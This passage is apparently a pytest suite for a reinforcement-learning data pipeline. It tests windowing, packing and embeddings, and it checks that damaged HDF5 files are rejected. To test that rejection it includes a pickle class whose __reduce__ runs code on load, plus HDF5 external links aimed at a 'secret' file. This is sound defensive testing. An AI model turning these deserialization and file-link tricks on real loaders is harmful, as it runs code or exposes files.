    """Never before, at that step at once; gpt forgets it with its context, the others do not."""
    agent = lram.Agent(small_model(backbone, context=6), dark_card())
    episode = worlds.Episode(0, np.random.RandomState(0).randint(0, 9, (20, 2)).astype(np.float32),
                             np.arange(20) % 5, np.arange(20) % 5, np.ones(20, np.float32), None,
                             False, False)
    moved = worlds.disturb(agent, episode, [2, 9])
    for row, t0 in zip(moved, (2, 9)):
        assert row[:t0].max() < 1e-6 < 1e-4 < row[t0] <= 1
        assert (row[t0 + 6:].max() < 1e-6) == (backbone == "gpt")
    if backbone == "mlstm":                 # one layer, all forgotten at every token: gone at once
        agent = lram.Agent(small_model(backbone, layers=1), dark_card())
        with torch.no_grad():
            agent.model.backbone.blocks[0].gates.weight.zero_()
            agent.model.backbone.blocks[0].gates.bias[4:] = -1e4
        moved = worlds.disturb(agent, episode, [2])[0]
        assert moved[2] > 1e-4 and moved[3:].max() < 1e-6


def test_separation_of_points(monkeypatch):
    """Against loops over all pairs; tasks of one domain have no neighbour in it to find."""
    rng = np.random.default_rng(0)
    tasks = np.repeat(["a/1", "a/2", "b/1", "b/2", "c/1"], 6)
    domains = np.array([t[0] for t in tasks])
    points = rng.normal(size=(30, 7)) + 2 * rng.normal(size=(5, 7)).repeat(6, 0)
    far = np.linalg.norm(points[:, None] - points, axis=-1)

    def silhouette(labels):
        values = []
        for k, mine in enumerate(labels):
            a = far[k][(labels == mine) & (np.arange(30) != k)].mean()
            b = min(far[k][labels == other].mean() for other in set(labels) - {mine})
            values.append((b - a) / max(a, b))
        return np.mean(values)
    found = worlds.separation(points, tasks)
    assert np.isclose(found["domains"], silhouette(domains))
    assert np.isclose(found["tasks"], silhouette(tasks))
    assert found["interval"][0] < found["domains"] < found["interval"][1]
    hits = [domains[np.where(tasks == tasks[k], np.inf, far[k]).argmin()] == domains[k]
            for k in range(24)]                                 # c has one task
    assert np.isclose(found["neighbours"], np.mean(hits)) and np.isclose(found["chance"], 6 / 24)
    alone = worlds.separation(points[:6], tasks[:6])
    assert set(alone.values()) == {None}
    flat = points[:, :2] @ rng.normal(size=(2, 7))              # PCA keeps a plane's distances
    monkeypatch.setitem(sys.modules, "umap", None)
    drawn, how = worlds.project(flat)
    assert how == "PCA, 100% of the variance" and np.allclose(
        np.linalg.norm(drawn[:, None] - drawn, axis=-1),
        np.linalg.norm(flat[:, None] - flat, axis=-1))


def test_embeddings_are_means_over_the_steps_of_a_window(tmp_path, monkeypatch):
    """Whole episodes of 100 steps in windows of 120, against each alone; the checkpoint's card."""
    monkeypatch.setitem(sys.modules, "umap", None)
    data.make(["darkroom/train"], tmp_path, episodes=5, processes=1)
    card = data.load_card(tmp_path / "darkroom/train") | {"state_mean": [1.0, 2.0]}
    model = small_model("mlstm", context=120, standardise=True)
    cards = {"darkroom/train": card, "darkroom/heldout": card | {"heldout": True}}
    monkeypatch.setattr(data.Mixture, "draw", lambda self, domain, context, rng: (  # whole episodes
        self.train[domain][rng.integers(4)].item(), 0))
    points, tasks = worlds.embeddings(model, cards, tmp_path, windows=3)
    assert points.shape == (3, 32) and set(tasks) == {"darkroom/train"}
    mixture = data.Mixture(tmp_path, ["darkroom/train"])
    raw = mixture.sample("darkroom", 3, 100, 0, 0)
    obs = (raw["obs"] - np.array([1.0, 2.0])) / np.array(card["state_std"])
    seen = []
    model.backbone.norm.register_forward_hook(lambda *args: seen.append(args[-1].mean(1)[0]))
    for row in zip(obs, raw["reward"], raw["rtg"]):
        model(*(torch.tensor(x, dtype=torch.float32)[None] for x in row), 0)
    assert relative(points, torch.stack(seen).detach()) < 1e-4
    inputs, _ = worlds.embeddings(model, cards, tmp_path, windows=3, raw=True)
    assert np.allclose(inputs[:, :2], obs.mean(1), atol=1e-5) and not inputs[:, 2:-2].any()
    lram.save_checkpoint(tmp_path / "c.pt", {"model": model.state_dict(), "cards": cards,
                                             "model_config": asdict(model.config)})
    args = worlds.Args(checkpoint=tmp_path / "c.pt", data_root=tmp_path, output=tmp_path / "o.json")
    worlds.main(replace(args, embed=tmp_path / "e.png"))
    assert json.loads((tmp_path / "o.json").read_text())["raw input"]["domains"] is None
    worlds.main(replace(args, inspect=tmp_path / "i.png"))
    assert len(json.loads((tmp_path / "o.json").read_text())["layers"]) == 2
    assert min((tmp_path / name).stat().st_size for name in ("e.png", "i.png")) > 10_000


# ------------------------------------------------------------------------------------ trajectories
def write_task(root, lengths, task="darkroom/train", seed=0, **card):
    """A synthetic task on disk: states count the steps, so that a window says where it was cut."""
    folder = Path(root) / task
    folder.mkdir(parents=True)
    rng = np.random.default_rng(seed)
    for k, T in enumerate(lengths):
        states = np.stack([np.full(T, k), np.arange(T)], 1).astype(np.float32)
        data.write_trajectory(folder / f"{k:06d}.hdf5", states, rng.integers(0, 5, T),
                              rng.random(T), False)
    (folder / "task.json").write_text(json.dumps(dark_card(task=task, **card)))
    (folder / "episode_lengths.json").write_text(
        json.dumps({f"{k:06d}": T for k, T in enumerate(lengths)}))
    return folder


def test_windows_hold_what_the_file_holds(tmp_path):
    """Rewards a step late, returns-to-go suffix sums, both scaled; last action; right padding."""
    folder = write_task(tmp_path, [30, 4], reward_scale=5.0)
    mixture = data.Mixture(tmp_path, ["darkroom/train"])
    with h5py.File(folder / "000000.hdf5") as f:
        rewards, actions = f["rewards"][:], f["actions"][:]
    w = mixture.window((0, 0, 30), 11, 8)
    assert w["obs"][:, 1].tolist() == list(range(11, 19))
    assert np.allclose(w["reward"], rewards[10:18] / 5) and \
        np.allclose(w["rtg"][0], rewards[11:].sum() / 5)
    assert w["action"].tolist() == actions[11:19].tolist() and \
        w["previous"].tolist() == actions[10:18].tolist()
    first, short = mixture.window((0, 0, 30), 0, 8), mixture.window((0, 1, 4), 0, 8)
    assert first["reward"][0] == 0 and not first["known"][0] and first["known"][1:].all()
    batch = data.collate([first, short], 8)
    assert batch["mask"].sum(1).tolist() == [8, 4] and (batch["obs"][1, 4:] == 0).all()
    # a return-to-go that is held constant
    write_task(tmp_path / "c", [30, 30], constant_rtg=True, target_return=80.0)
    constant = data.Mixture(tmp_path / "c", ["darkroom/train"])
    assert (constant.window((0, 0, 30), 3, 8)["rtg"] == 80.0).all()


def test_windows_show_every_step_equally_often(tmp_path):
    """Of all trajectories, long or short, first and last step included;
    validation trajectories never; aligned windows begin at multiples and lie within.
    """
    write_task(tmp_path, [100, 50, 50, 20, 10])
    mixture = data.Mixture(tmp_path, ["darkroom/train"])
    held = set(mixture.validation["darkroom"]["episode"].tolist())
    rows, C, batches = mixture.train["darkroom"], 10, 150
    seen = {episode: np.zeros(n) for _, episode, n in rows.tolist()}
    drawn = dict.fromkeys(range(5), 0)
    for step in range(batches):
        batch = mixture.sample("darkroom", 20, C, seed=1, step=step)
        for obs, mask in zip(batch["obs"], batch["mask"]):
            drawn[int(obs[0, 0])] += 1
            seen[int(obs[0, 0])][obs[mask, 1].astype(int)] += 1         # states count the steps
    total = (rows["length"] + C - 1).sum()
    assert held and not held & {episode for episode, count in drawn.items() if count}
    for _, episode, n in rows.tolist():
        assert abs(drawn[episode] / 3000 - (n + C - 1) / total) < 0.03
        expected = 3000 * C / total         # the same for every step of every trajectory
        assert np.abs(seen[episode] - expected).max() < 5 * np.sqrt(expected), seen[episode]
    aligned = data.Mixture(tmp_path, ["darkroom/train"], align=5)
    starts = {aligned.draw("darkroom", C, np.random.default_rng(k)) for k in range(300)}
    assert all(0 <= start <= max(0, n - C) and start % 5 == 0 for (_, _, n), start in starts)
    write_task(tmp_path, [100, 50, 50, 20, 10], "other/train", domain="other")
    two = data.Mixture(tmp_path, ["darkroom/train", "other/train"])
    seen = {two.sample(domain, 20, 10, seed, step)["obs"].tobytes() for domain in two.domains
            for seed in (0, 1) for step in (0, 1)}
    assert len(seen) == 8               # seeds, steps and domains draw numbers of their own
    again = mixture.sample("darkroom", 20, 10, seed=1, step=7)
    assert all(np.array_equal(a, b) for a, b in zip(again.values(), data.Mixture(
        tmp_path, ["darkroom/train"]).sample("darkroom", 20, 10, seed=1, step=7).values()))


def test_validation_shows_every_held_out_step_of_every_task(tmp_path):
    """Windows one after the other make up the held-out trajectories; thinned, no task is left out;
    of several processes each takes its batches.
    """
    tasks, lengths = ["darkroom/train", "darkroom/long"], ([30, 7, 12, 40], [500, 600, 9, 700])
    for task, some in zip(tasks, lengths):
        write_task(tmp_path, some, task)
    mixture = data.Mixture(tmp_path, tasks)
    shown = lambda **options: [obs[mask] for batch in mixture.validation_batches(
        "darkroom", 3, 10, **options) for obs, mask in zip(batch["obs"], batch["mask"])]
    held = [(number, k) for number, k, _ in mixture.validation["darkroom"].tolist()]
    assert held == [(0, 0), (1, 0)]         # of so few, the first of each task
    expected = [(0, t) for n in (30, 500) for t in range(n)]
    assert np.array_equal(np.concatenate(shown()), expected)
    thin = [window[0, 1] for window in shown(max_steps=100)]
    assert thin == [0, 10, 20, *np.linspace(0, 49, 5).astype(int) * 10]
    parts = [shown(part=(k, 2)) for k in range(2)]
    assert sum(map(len, np.concatenate(parts[0] + parts[1])[:, :1])) == 530 and all(parts)


def test_no_trajectory_is_trained_on_and_held_out(tmp_path):
    """Many of Dark-Room's are equal; --top-fraction takes the best of those trained on."""
    data.make(["darkroom/train"], tmp_path, episodes=330, processes=1)
    whole, best = (data.Mixture(tmp_path, ["darkroom/train"], top_fraction=f) for f in (1, 0.1))
    content = lambda m, part: [m.get("darkroom/train", k, n).actions.tobytes()
                               for _, k, n in getattr(m, part)["darkroom"].tolist()]
    held = content(whole, "validation")
    assert len(held) == 8 == len(content(best, "validation"))
    assert not set(held) & set(content(whole, "train")) and len(whole.train["darkroom"]) > 300
    returns = json.loads((tmp_path / "darkroom/train/episode_returns.json").read_text())
    of = lambda m: [returns[m.names["darkroom/train"][k].decode()]
                    for k in m.train["darkroom"]["episode"]]
    card = data.load_card(tmp_path / "darkroom/train")
    odd = card | {"repeated": [name.decode() for name in whole.names["darkroom/train"]]}
    (tmp_path / "darkroom/train/task.json").write_text(json.dumps(odd))
    with pytest.raises(SystemExit, match="nothing is left to train on"):
        data.Mixture(tmp_path, ["darkroom/train"])
    del card["reference_returns"]                               # made by an earlier version
    (tmp_path / "darkroom/train/task.json").write_text(json.dumps(card))
    with pytest.raises(SystemExit, match="earlier version.*move it away"):
        data.make(["darkroom/train"], tmp_path, episodes=330)
    n = len(of(best))
    assert n == -(-len(of(whole)) // 10) and sorted(of(best)) == sorted(of(whole))[-n:]


def test_context_holds_what_was_executed(tmp_path):
    """Labels are the expert's, `previous` is what the world received: it replays to the states."""
    data.make(["darkroom/train"], tmp_path, episodes=12, processes=1)
    env, other = worlds.make_env("darkroom/train"), 0
    mixture = data.Mixture(tmp_path, ["darkroom/train"])
    for _, k, n in mixture.train["darkroom"].tolist():
        window = mixture.window((0, k, n), -5, n + 9)           # cut at both ends
        assert len(window["obs"]) == n and window["known"].tolist() == [False] + [True] * (n - 1)
        obs = [env.reset(seed=int(mixture.names["darkroom/train"][k]))[0]]
        obs += [env.step(a)[0] for a in window["previous"][1:]]
        assert np.array_equal(obs, window["obs"])
        other += int((window["previous"][1:] != window["action"][:-1]).sum())
    assert other > 10
    data.pack(tmp_path)
    packed = data.Mixture(tmp_path, ["darkroom/train"]).window((0, k, n), 0, n)
    assert np.array_equal(packed["previous"], window["previous"])


def test_standardised_states(tmp_path):
    """Constants of a task stay raw, small deviations count as 0.01, outliers are clipped; what is
    held out is read in the units of the tasks that are trained on.
    """
    rng, folder = np.random.default_rng(0), tmp_path / "darkroom/train"
    folder.mkdir(parents=True)
    x = rng.normal(5.0, [2.0, 1e-3, 0.0], (200, 3)).astype(np.float32)
    x[:, 2] = 0.7
    for k in range(4):
        data.write_trajectory(folder / f"{k}.hdf5", x[50 * k:50 * k + 50], np.zeros(50, int),
                              np.zeros(50), False)
    stats = data.statistics(folder)
    still = data.statistics(write_images(tmp_path, [3], pictures=np.full((3, 1, 64, 64), 9)))
    assert np.allclose(still["state_mean"], 9) and np.allclose(still["state_std"], 0.05 * 255)
    assert np.allclose(stats["state_mean"], [*x[:, :2].mean(0), 0], atol=1e-4)
    assert np.allclose(stats["state_std"], [x[:, 0].std(), 0.01, 1], atol=1e-4)
    card = dark_card(**{key: stats[key] for key in ("state_mean", "state_std", "observation")})
    seen = lram.prepare_states(np.array([[5.0, 6.0, 0.7]]), card, True)
    assert abs(seen[0, 0]) < 1 and seen[0, 1:].tolist() == [10.0, np.float32(0.7)]
    for task, mean in (("darkroom/train", 1.0), ("darkroom/b", 3.0), ("darkroom/heldout", 9.0)):
        card.update(task=task, state_mean=[mean] * 3, state_std=[2.0] * 3,
                    reward_scale=20.0 if task == "darkroom/heldout" else 1.0)
        path = tmp_path / task
        path.mkdir(exist_ok=True)
        (path / "task.json").write_text(json.dumps(card))
        data.write_trajectory(path / "0.hdf5", x[:9], np.zeros(9, int), np.zeros(9), False)
    told = data.Mixture(tmp_path, ["darkroom/train", "darkroom/b"], ["darkroom/heldout"]).cards
    assert told["darkroom/heldout"]["state_mean"] == [2.0] * 3      # of the mixture of the two
    assert np.allclose(told["darkroom/heldout"]["state_std"], np.sqrt(5), atol=1e-5)
    assert told["darkroom/heldout"]["reward_scale"] == 1


def write_images(root, lengths, task="atari/freeway", pictures=None):
    """The same with pictures, three channels in every second file."""
    folder = Path(root) / task
    folder.mkdir(parents=True)
    rng = np.random.default_rng(0)
    for k, T in enumerate(lengths):
        states = rng.integers(0, 256, (T, 1 + 2 * (k % 2), 64, 64)) if pictures is None else \
            pictures
        states = states.astype(np.uint8)
        data.write_trajectory(folder / f"{k:06d}.hdf5", states, rng.integers(0, 18, T),
                              rng.random(T), True)
    (folder / "task.json").write_text(json.dumps(dark_card(
        task=task, domain="atari", observation={"kind": "image", "shape": [1, 64, 64]},
        action={"kind": "discrete", "n": 18}, state_mean=np.zeros((1, 64, 64)).tolist(),
        state_std=np.ones((1, 64, 64)).tolist())))
    (folder / "episode_lengths.json").write_text(
        json.dumps({f"{k:06d}": T for k, T in enumerate(lengths)}))
    return folder


def test_packed_files_give_the_same_windows(tmp_path, monkeypatch):
    """For the same seed, pictures and vectors, training and validation; without the files too."""
    tasks, lengths = ["darkroom/train", "atari/freeway"], [30, 4, 61, 12, 55, 1]
    folders = write_task(tmp_path, lengths), write_images(tmp_path, lengths)
    every = lambda mixture: [batch for domain in mixture.domains for batch in (
        *(mixture.sample(domain, 5, 20, seed=3, step=step) for step in range(6)),
        *mixture.validation_batches(domain, 2, 20))]
    single = every(data.Mixture(tmp_path, tasks))
    data.pack(tmp_path)
    for folder in folders:
        for path in folder.glob("*.hdf5"):
            path.unlink()
    packed = data.Mixture(tmp_path, tasks)
    assert len(single) == len(every(packed)) > 12
    for a, b in zip(single, every(packed)):
        assert all(np.array_equal(a[key], b[key]) and a[key].dtype == b[key].dtype for key in a)
    # a packed task is a finished one; what would have to be added to it is refused
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(data, "LEAST_HELD_OUT", 0)
    assert data._plan("darkroom/train", folders[0], 6, True) == []
    with pytest.raises(SystemExit, match="6 trajectories that are no files any more"):
        data._plan("darkroom/train", folders[0], 7, True)
    # the other parts of a batch are the other processes'
    whole, parts = (packed.sample("atari", 5, 20, 3, 2), [
        packed.sample("atari", 5, 20, 3, 2, (k, 2)) for k in range(2)])
    assert np.array_equal(whole["obs"][0::2], parts[0]["obs"]) and \
        np.array_equal(whole["obs"][1::2], parts[1]["obs"])


def test_packing_refuses_what_is_bad_and_leaves_nothing_half_done(tmp_path, capsys, monkeypatch):
    """By name, or skips it; a kill leaves no pack; a damaged pack is named."""
    folder = write_task(tmp_path, [30, 9, 30])
    damage(folder / "000001.hdf5", "NaN")
    with pytest.raises(SystemExit, match="000001.hdf5: holds NaN"):
        data.pack(tmp_path)
    assert not list(folder.glob("pack*"))
    with monkeypatch.context() as patch:
        def killed(*args):
            raise KeyboardInterrupt
        patch.setattr(os, "replace", killed)
        with pytest.raises(KeyboardInterrupt):
            data.pack(tmp_path, "skip")
    assert not list(folder.glob("pack*"))
    (tmp_path / "public" / "robots").mkdir(parents=True)
    for dims in (3, 4):                                 # without a card that says how many
        data.write_trajectory(tmp_path / f"public/robots/{dims}.hdf5", np.zeros((5, 2), np.float32),
                              np.zeros((5, dims), np.float32), np.zeros(5), True)
    with pytest.raises(SystemExit, match=r"4.hdf5: actions are \(4,\) each, those before it"):
        data.pack(tmp_path / "public")
    shutil.rmtree(tmp_path / "public")
    data.pack(tmp_path, "skip")
    names, lengths, pack = data.load_index(folder)
    assert names.tolist() == [b"000000", b"000002"] and lengths.tolist() == [30, 30]
    assert pack.states[pack.starts[1], 0] == 2 and "skipped" in capsys.readouterr().err
    (folder / "pack.h5").write_bytes((folder / "pack.h5").read_bytes()[:900])
    with pytest.raises(data.BadTrajectory, match="pack.h5: not a .*"):
        data.load_index(folder)


def test_handles_are_not_shared_with_workers(tmp_path):
    """A forked process opens its own files, and reads what its parent reads."""
    write_images(tmp_path, [30, 40, 50])
    for layout in ("files", "pack"):
        mixture = data.Mixture(tmp_path, ["atari/freeway"])
        batch = mixture.sample("atari", 8, 10, 0, 0)
        mine = {t.file for t in mixture.cache.values()} | {p and p.file
                                                           for p in mixture.packs.values()}

        def child(queue):
            same = np.array_equal(mixture.sample("atari", 8, 10, 0, 0)["obs"], batch["obs"])
            its = [t.file for t in mixture.cache.values()] + [p and p.file
                                                              for p in mixture.packs.values()]
            queue.put((same, [file is not None and any(file is x for x in mine) for file in its]))
        context = multiprocessing.get_context("fork")
        queue = context.SimpleQueue()
        process = context.Process(target=child, args=(queue,))
        process.start()
        same, shared = queue.get()
        process.join()
        assert same and shared and not any(shared), layout
        data.pack(tmp_path)


class Witness:
    """Pickled: bytes that write a file where they are loaded."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return Path.write_text, (self.path, "it ran")


def damage(path, how):
    """One kind of fault in a good file, or in what stands beside it."""
    folder = path.parent
    if how == "truncated":
        path.write_bytes(path.read_bytes()[:900])
    elif how == "empty":
        path.write_bytes(b"")
    elif how == "not HDF5":
        path.write_bytes(pickle.dumps(Witness(folder / "witness")))
    elif how in ("gone", "dangling link", "folder", "pipe"):
        path.unlink()
        if how == "dangling link":
            path.symlink_to("nowhere.hdf5")
        elif how == "folder":
            path.mkdir()
        elif how == "pipe":
            os.mkfifo(path)
    elif how.startswith("index"):
        name = "episode_returns.json" if how.endswith("return") else "episode_lengths.json"
        index = json.loads((folder / name).read_text())
        index |= {"index: a file more": {"999999": 7}, "index: a file less": {},
                  "index: a length": {path.stem: 29}, "index: a return": {path.stem: 1e6},
                  "index: no number": {path.stem: "30"}, "index: no JSON": {}}[how]
        if how == "index: a file less":
            del index[path.stem]
        text = json.dumps(index)
        (folder / name).write_text(text[:-9] if how == "index: no JSON" else text)
    elif how == "card: no JSON":
        (folder / "task.json").write_text("[1, 2")
    elif how.startswith("card"):
        changes = {"card: another task": {"task": "darkroom/heldout"},
                   "card: infinite": {"target_return": math.inf},
                   "card: no number": {"reward_scale": "1"},
                   "card: scale 0": {"reward_scale": 0.0}, "card: statistics":
                   {"state_mean": [0.0]}}[how]
        (folder / "task.json").write_text(json.dumps(dark_card(**changes)))
    else:
        damage_inside(path, how)


def damage_inside(path, how):
    """One kind of fault in what a good file holds."""
    with h5py.File(path, "r+") as f:
        T = len(f["states"])
        put = {"NaN": ("states", np.full((T, 2), np.nan, np.float32)),
               "lengths": ("rewards", np.zeros(3, np.float32)),
               "dtype": ("states", np.zeros((T, 2), np.int64)),
               "words": ("rewards", np.array([b"one"] * T)),
               "action range": ("actions", np.full(T, 5)),
               "negative action": ("actions", np.full(T, -1)),
               "float action": ("actions", np.zeros(T, np.float32)),
               "state shape": ("states", np.zeros((T, 3), np.float32)),
               "number": ("actions", np.float32(0)), "dones": ("dones", np.zeros(T + 1, bool)),
               "returns-to-go": ("returns_to_go", np.full(T, np.inf, np.float32)),
               "scaled": ("returns_to_go", f["rewards"][:][::-1].cumsum()[::-1] / 200),
               "float64": ("states", np.full((T, 2), 1e39)),
               "wide": ("states", np.zeros((T, 205), np.float32))}
        if how == "missing key":
            del f["rewards"]
        elif how == "no steps":
            for key in list(f):
                x = f[key][:0]
                del f[key]
                f[key] = x
        elif how == "group":
            del f["rewards"]
            f.create_group("rewards")
        elif how == "link":                             # to another file, perhaps a secret one
            del f["rewards"]
            f["rewards"] = h5py.ExternalLink(next(path.parent.glob("*0.hdf5")).name, "rewards")
        elif how == "terabytes":                        # claimed, not written
            del f["rewards"]
            f.create_dataset("rewards", (10 ** 12,), np.float32, chunks=(1000,))
        else:
            key, x = put[how]
            if key in f:
                del f[key]
            f[key] = x


@pytest.mark.parametrize("how,words", (
    ("truncated", "truncated"), ("empty", "0 bytes"), ("missing key", "has no rewards"),
    ("NaN", "NaN"), ("lengths", "lengths differ"), ("dtype", "expected float"),
    ("action range", "expected 0 to 4"), ("state shape", "card says"), ("not HDF5", "not a read"),
    ("no steps", "are 0"), ("dones", "lengths differ"), ("words", "not numbers"),
    ("negative action", "expected 0 to 4"), ("float action", "expected int"),
    ("number", "damaged"), ("group", "damaged"), ("link", "elsewhere"), ("terabytes", "claims"),
    ("returns-to-go", "finite"), ("scaled", "add up to"), ("float64", "infinite"),
    ("wide", "S up to 204"), ("dangling link", "nowhere.hdf5, which does not exist"),
    ("folder", "not a file"), ("pipe", "not a file"), ("gone", None)))
def test_malformed_files_are_refused_by_name(how, words, tmp_path, capsys):
    """With path and reason, by training and by `data.py check`; skipped on request."""
    folder = write_task(tmp_path, [30, 30, 30])
    number = data.Mixture(tmp_path, ["darkroom/train"]).train["darkroom"]["episode"][0]
    bad = f"{number:06d}"
    mixture = data.Mixture(tmp_path, ["darkroom/train"])
    damage(folder / f"{bad}.hdf5", how)             # a file may vanish after it was listed, too
    with pytest.raises(SystemExit, match=words or "does not exist") as error:
        for step in range(20):
            mixture.sample("darkroom", 4, 8, 0, step)
    assert f"{bad}.hdf5" in str(error.value) and "data.py check" in str(error.value)
    capsys.readouterr()
    assert data.check(tmp_path) == 1
    out = capsys.readouterr().out
    assert bad in out and (words or "lists") in out
    mixture = data.Mixture(tmp_path, ["darkroom/train"], on_bad="skip")
    for step in range(5):
        assert (mixture.sample("darkroom", 4, 8, 0, step)["obs"][:, 0, 0] != number).all()
    assert capsys.readouterr().err.count("skipped") == 1
    data.info(tmp_path)
    table = capsys.readouterr().out
    assert ("1 malformed" in table) == (how not in ("gone", "state shape", "action range"))
    assert not (folder / "witness").exists()


@pytest.mark.parametrize("how,words,trains", (
    ("index: a file more", "lists 999999", "disagree about 999999"),
    ("index: a file less", "does not list 000001.hdf5", "disagree about 000001"),
    ("index: a length", "says 29 of 000001.hdf5, whose length is 30", "index says 29"),
    ("index: a return", "says 1000000.0 of 000001.hdf5", None),
    ("index: no number", "says 30 of 000001", "disagree about 000001"),
    ("index: no JSON", "cannot be read as JSON", "cannot be read as JSON"),
    ("card: no JSON", "cannot be read as JSON", "cannot be read as JSON"),
    ("card: another task", "is the card of darkroom/heldout", None),
    ("card: infinite", "target_return is inf", "target_return is inf"),
    ("card: no number", "not a task's card", "not a task's card"),
    ("card: scale 0", "reward_scale is 0", "reward_scale is 0"),
    ("card: statistics", "observations have (2,)", "observations have")))
def test_indexes_and_cards_that_disagree(how, words, trains, tmp_path, capsys):
    """Named by `check`, with the file; where training would be misled it stops."""
    folder = write_task(tmp_path, [30, 30, 30])
    data.write_json(folder / "episode_returns.json", data.statistics(folder)["returns"])
    assert data.check(tmp_path) == 0
    damage(folder / "000001.hdf5", how)
    capsys.readouterr()
    assert data.check(tmp_path) == 1
    assert words in capsys.readouterr().out
    data.info(tmp_path)                                 # says what it can
    if trains:
        with pytest.raises(SystemExit, match=trains):
            mixture = data.Mixture(tmp_path, ["darkroom/train"])
            for step in range(20):
                mixture.sample("darkroom", 4, 8, 0, step)
    if trains and how.startswith("index") and "JSON" not in words:
        mixture = data.Mixture(tmp_path, ["darkroom/train"], on_bad="skip")
        assert b"999999" not in mixture.names["darkroom/train"]
        assert len(mixture.names["darkroom/train"]) == 3 - (words[:4] in ("does", "says")) + (
            how == "index: a length")


def test_check_finds_what_no_single_file_shows(tmp_path, capsys, monkeypatch):
    """Files of another shape, links that are fine, what may not be read, an unfinished conversion,
    a file that vanishes between listing and reading.
    """
    folder = write_task(tmp_path, [30, 31, 30])
    (folder / "000004.hdf5").symlink_to(folder / "000001.hdf5")
    (folder / "episode_lengths.json").unlink()
    assert data.check(tmp_path) == 0
    (folder / "task.json").unlink()
    (folder / data.UNFINISHED).write_text("{}")
    assert data.check(tmp_path) == 1                    # that it is incomplete, and nothing else
    damage(folder / "000002.hdf5", "state shape")
    capsys.readouterr()
    assert data.check(tmp_path) == 2
    out = capsys.readouterr().out
    assert "elsewhere" in out and "incomplete" in out

    def guarded(path, *rest, real=h5py.File):
        if str(path).endswith("000001.hdf5"):
            raise PermissionError(13, "Permission denied")
        return real(path, *rest)
    monkeypatch.setattr(h5py, "File", guarded)
    data.check(folder / "000001.hdf5")                  # the tests may run as root, who may all
    assert "000001.hdf5: may not be read" in capsys.readouterr().out
    assert "does not exist (any more)" in data.check_files(folder, ["9.hdf5"], None)[0][1]
    assert data.check(tmp_path / "none") == 1 and "No such file" in capsys.readouterr().out
    data.info(tmp_path / "none")
    assert "holds no trajectories" in capsys.readouterr().out


def test_packs_are_checked_and_shown(tmp_path, capsys):
    """With the files beside them or without; a fault inside is named by episode."""
    download(tmp_path, ["metaworld/reach-v2"], [20, 30, 25])
    folder = tmp_path / "metaworld" / "reach-v2"
    data.info(tmp_path)
    table = capsys.readouterr().out
    single = data.statistics(folder)
    data.pack(tmp_path)
    assert data.check(tmp_path) == 0            # the same content in a file and its pack: no fault
    for path in folder.glob("0*.hdf5"):
        path.unlink()
    assert data.check(tmp_path) == 0 and data.statistics(folder) == single
    capsys.readouterr()
    data.info(tmp_path)
    assert capsys.readouterr().out == table
    assert data.Mixture(tmp_path, ["metaworld/reach-v3"]).cards["metaworld/reach-v3"][
        "target_return"] == max(single["returns"].values())
    with h5py.File(folder / "pack.h5", "r+") as f:
        f["actions"][25] = 2.0                  # a step of the second one
    assert data.check(tmp_path) == 1
    assert "pack.h5:000000001: actions from" in capsys.readouterr().out
    (folder / "pack.h5").write_bytes((folder / "pack.h5").read_bytes()[:900])
    assert data.check(tmp_path) == 1 and "pack.h5: not a readable" in capsys.readouterr().out
    data.info(tmp_path)


def test_a_pack_stands_for_the_files_beside_it(tmp_path, capsys):
    """Where it lacks some, or is older, they are read, and `check` says so, until it is made again;
    what was left out as bad does not count.
    """
    folder = write_task(tmp_path, [30, 30, 30])
    damage(folder / "000001.hdf5", "NaN")
    data.pack(tmp_path, "skip")
    read = lambda: data.load_index(folder)[0].tolist()
    assert read() == [b"000000", b"000002"] and data.load_index(folder)[2]
    (folder / "episode_lengths.json").unlink()
    (folder / "000001.hdf5").unlink()
    write_task(tmp_path / "more", [5] * 9)
    for k in range(6, 9):                               # more files are downloaded
        shutil.copy(tmp_path / f"more/darkroom/train/{k:06d}.hdf5", folder)
    for done in ("in the folder", "written anew"):
        capsys.readouterr()
        assert data.load_index(folder)[2] is None and data.check(folder) == 1
        assert f"python data.py pack {folder}" in capsys.readouterr().out
        mixture = data.Mixture(tmp_path, ["darkroom/train"])
        assert len(mixture.train["darkroom"]) + len(mixture.validation["darkroom"]) == 5, done
        data.pack(tmp_path)
        assert len(read()) == 5 and data.load_index(folder)[2] and data.check(folder) == 0
        os.utime(folder / "pack.h5", (1, 1))


@pytest.mark.parametrize("how,words", (
    ("NaN", "holds NaN"), ("action range", "expected 0 to 4"), ("returns-to-go", "add up to"),
    ("executed", "executed actions from"), ("starts", "outside of its data"),
    ("dtype", "not what data.py writes"), ("external storage", "points elsewhere"),
    ("virtual", "points elsewhere"), ("external link", "points elsewhere")))
def test_packs_are_not_trusted(how, words, tmp_path, capsys):
    """What is refused in a file is refused in a pack, by training and by `check`."""
    folder = write_task(tmp_path, [30, 30])
    data.pack(tmp_path)
    for path in folder.glob("0*.hdf5"):
        path.unlink()
    with h5py.File(tmp_path / "secret", "w") as f:
        f["x"] = np.full((16, 1), 7, np.float32)
    with h5py.File(folder / "pack.h5", "r+") as f:
        if how in ("external storage", "virtual", "external link"):
            hostile(f, "states", tmp_path / "secret", how)
        elif how == "dtype":
            del f["rewards"]
            f["rewards"] = np.zeros(60, np.float64)
        else:
            key = {"action range": "actions", "returns-to-go": "returns_to_go", "NaN": "rewards",
                   "executed": "executed", "starts": "starts"}[how]
            f[key][:] = {"NaN": np.nan, "returns-to-go": f[key][:] / 200,
                         "starts": np.iinfo(int).max}.get(how, 7)
    with pytest.raises(SystemExit, match=f"pack.h5.*{words}"):
        data.Mixture(tmp_path, ["darkroom/train"]).sample("darkroom", 4, 10, 0, 0)
    capsys.readouterr()
    assert data.check(tmp_path) >= 1 and words in capsys.readouterr().out


def test_a_mixture_can_be_sent_to_reading_processes(tmp_path):
    """Pickled, as "spawn" and "forkserver" do, after files were opened: the same batches."""
    write_images(tmp_path, [30, 40, 50])
    for layout in ("files", "pack"):
        mixture = data.Mixture(tmp_path, ["atari/freeway"])
        batch = mixture.sample("atari", 4, 10, 0, 0)
        sent = pickle.loads(pickle.dumps(mixture)).sample("atari", 4, 10, 0, 0)
        assert all(np.array_equal(batch[key], sent[key]) for key in batch), layout
        data.pack(tmp_path)


def test_packing_keeps_the_returns_of_a_download(tmp_path):
    """Its index may count other rewards than the files hold; the best of it stay the best."""
    download(tmp_path, ["metaworld/reach-v2"], [20] * 30)
    folder = tmp_path / "metaworld" / "reach-v2"
    for what, value in (("lengths", lambda k: 20), ("returns", lambda k: 7.0 * k)):
        data.write_json(folder / f"episode_{what}.json",
